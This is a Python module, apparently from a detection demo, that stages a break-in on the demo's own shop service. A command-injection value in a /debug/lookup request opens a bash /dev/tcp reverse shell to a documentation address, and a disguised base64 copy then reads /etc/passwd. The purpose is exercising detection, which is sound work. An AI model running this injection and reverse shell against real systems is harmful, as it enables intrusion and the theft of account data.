"""The break-in: one HTTP request through the hole gives a shell on a socket, and somebody types into it.

Both ends are in this machine: the attacker's address is a documentation address that exists only in the demo's network. Whether
that is the network of the demo's own containers or a Kubernetes node's is not known here.
"""

import contextlib
import socket
import threading
import time
from collections.abc import Callable, Mapping
from contextlib import AbstractContextManager
from typing import Protocol

from demo.shop import get

__all__ = ["ADDRESS", "PORT", "STEPS", "AttackError", "Network", "attack"]

ADDRESS, PORT = "203.0.113.9", 4444
LOOKUP = f"db-0; bash -c 'exec 3<>/dev/tcp/{ADDRESS}/{PORT}; exec sh <&3 >&3 2>&3'"
STEPS = (
    ("id", "asks who it is"),
    ("uname -a", "asks where it is"),
    ("cp /usr/bin/base64 /tmp/.cache && /tmp/.cache /etc/passwd", "brings a tool of its own and reads the users with it"),
)
TYPING_S = 0.7
"""Pause of a person at a keyboard between two commands."""


class AttackError(RuntimeError):
    """The break-in itself did not work: the demo is broken, not the detection."""


class Network(Protocol):
    """Where the attacker and the shop are."""

    def connect(self, address: str, port: int, timeout: float = 5) -> socket.socket:
        """Return a connection to an address of the shop."""

    def listen(self, address: str, port: int) -> AbstractContextManager[socket.socket]:
        """Wait for connections under an address that nobody else has."""


def attack(network: Network, target: str, names: Mapping[str, str], tell: Callable[[str], None]) -> str:
    """Break into whoever answers at an address, step by step; return the name of who did when the attacker has left.

    `names` are the replicas' by address.

    Raises:
        AttackError: no shell came back, or a step gave no answer.
    """
    with network.listen(ADDRESS, PORT) as listener:
        listener.settimeout(10)
        tell(f"GET http://{target}:8080/debug/lookup?name={LOOKUP}")
        request = threading.Thread(target=_request, args=(network, target), daemon=True)
        request.start()
        try:
            shell, (address, _) = listener.accept()
        except OSError as error:
            raise AttackError(f"no shell came back from {target}: {error}") from None
        with shell:
            name = names[address]
            tell(f"a shell of {name} ({address}) is on the attacker's socket {ADDRESS}:{PORT}")
            shell.settimeout(5)
            for command, meaning in STEPS:
                time.sleep(TYPING_S)
                tell(f"$ {command}   # {meaning}: {_type(shell, command)}")
            shell.sendall(b"exit\n")
        request.join(10)
        return name


def _request(network: Network, target: str) -> None:
    with contextlib.suppress(OSError):
        get(network, target, f"/debug/lookup?name={LOOKUP}", timeout=30)


def _type(shell: socket.socket, command: str) -> str:
    end = "end-of-answer"
    shell.sendall(f"{command}; echo {end}\n".encode())
    answer = ""
    while end not in answer:
        try:
            piece = shell.recv(4096).decode(errors="replace")
        except OSError as error:
            raise AttackError(f"{command!r} was not answered: {error}") from None
        if not piece:
            raise AttackError(f"the shell ended at {command!r}; it had said {answer!r}")
        answer += piece
    first = answer.strip().splitlines()[0]
    return first if len(first) <= 60 else first[:57] + "…"
